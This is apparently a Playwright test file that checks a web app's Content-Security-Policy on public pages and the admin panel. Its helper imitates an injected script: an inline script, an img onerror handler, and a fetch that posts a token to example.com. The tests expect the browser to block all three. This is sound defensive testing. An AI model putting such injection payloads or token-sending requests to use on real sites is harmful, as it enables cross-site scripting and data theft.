import { linkedScreens, screens } from '#admin/screens.ts';
import { paths } from '#paths.ts';
import { expect, test } from '../support/fixtures.ts';
import { publicPaths } from '../support/public-pages.ts';

/** Does what an injected script would do. Returns whether it ran and what the browser blocked. */
const injectScript = () =>
  new Promise<{ ran: boolean; blocked: string[] }>((resolve) => {
    const blocked = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      blocked.add(effectiveDirective);
      if (blocked.size === 3) resolve({ ran: 'injected' in window, blocked: [...blocked].sort() });
    });
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    const picture = document.createElement('div');
    picture.innerHTML = '<img src="data:," onerror="window.injected = true">';
    document.body.append(script, picture);
    fetch('https://example.com/?token=1', { method: 'POST' }).catch(() => undefined);
  });

const allBlocked = { ran: false, blocked: ['connect-src', 'script-src-attr', 'script-src-elem'] };

/** The browser reports a violation as a console error, and any console error fails a test. */
test('no public page violates its Content-Security-Policy', async ({ page, demoProperty }) => {
  const property = demoProperty();
  for (const path of [
    ...publicPaths,
    paths.selection(),
    paths.comparison(),
    paths.property(property),
    paths.location(property.location_id),
  ]) {
    const response = await page.goto(path);
    expect(response?.headers()['content-security-policy'], path).toContain("frame-ancestors 'none'");
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
});

test('no screen of the panel violates its Content-Security-Policy', async ({ administrator }) => {
  const paths = [...linkedScreens.map(({ path }) => path), screens.factReview.path, '/login'];
  expect(paths.length).toBeGreaterThan(15);
  for (const path of paths) {
    await administrator.goto(`/admin${path}`);
    await expect(administrator.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(administrator.getByText('Cargando...')).toHaveCount(0);
  }
});

test.describe('an injected script', () => {
  test.use({ expectedErrors: /Content Security Policy/ });

  test('neither runs nor sends data on a public page and in the panel', async ({ page, administrator }) => {
    await page.goto('/');
    expect(await page.evaluate(injectScript)).toEqual(allBlocked);
    await administrator.goto('/admin/profile');
    await expect(administrator.getByRole('heading', { name: 'Perfil' })).toBeVisible();
    expect(await administrator.evaluate(injectScript)).toEqual(allBlocked);
  });
});
